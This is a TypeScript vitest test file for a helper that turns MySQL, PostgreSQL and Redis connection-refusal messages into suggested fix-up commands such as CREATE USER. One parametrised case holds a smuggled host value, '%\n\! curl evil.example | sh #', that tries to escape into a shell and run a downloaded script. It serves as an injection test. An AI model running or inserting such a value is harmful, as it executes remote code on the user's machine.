import { expect, test } from 'vitest';
import { DbFailure } from './engine/db-failure.ts';
import { lineToAdd } from './why-refused.ts';

const refused = {
  ...({ protocol: 'mysql', signIn: 'password', isEncrypted: true } as const),
  ...{ dbUser: 'ann', dbName: 'shop', setPassword: '' },
};
const lineFor = (message: string) => lineToAdd(refused, new DbFailure('refused', message, { code: '1130' }));

test('the address that a server names stands in the line to type', () => {
  expect(lineFor("Host '10.0.0.7' is not allowed to connect")).toContain("CREATE USER 'ann'@'10.0.0.7' IDENTIFIED");
  expect(lineFor("Access denied for user 'ann'@'db-1.example'")).toContain("'ann'@'db-1.example'");
});

test.each(['\\', '%\n\\! curl evil.example | sh #', ''])('what is no address does not: %j', (from) => {
  expect(lineFor(`Host '${from}' is not allowed to connect`)).toContain("CREATE USER 'ann'@'%' IDENTIFIED");
});

test('where no database is named PostgreSQL wants one called as the user, and that name stands in the line', () => {
  const without = { ...refused, protocol: 'postgres', dbName: '' } as const;
  const failure = new DbFailure('refused', 'database "ann" does not exist', { code: '3D000' });
  expect(lineToAdd(without, failure)).toBe('name a database that is there, or make it: CREATE DATABASE "ann"');
});

test('Redis that is signed in to by certificate still asks for a password, which is to be stored', () => {
  const setPassword = 'gatehouse db set-password cache ann';
  const byCertificate = { ...refused, protocol: 'redis', signIn: 'certificate', setPassword } as const;
  const failure = new DbFailure('refused', 'WRONGPASS invalid username-password pair or user is disabled.');

  expect(lineToAdd(byCertificate, failure)).toBe(
    `store the password it has: ${setPassword}, or set it there: ACL SETUSER ann on >PASSWORD`,
  );
});
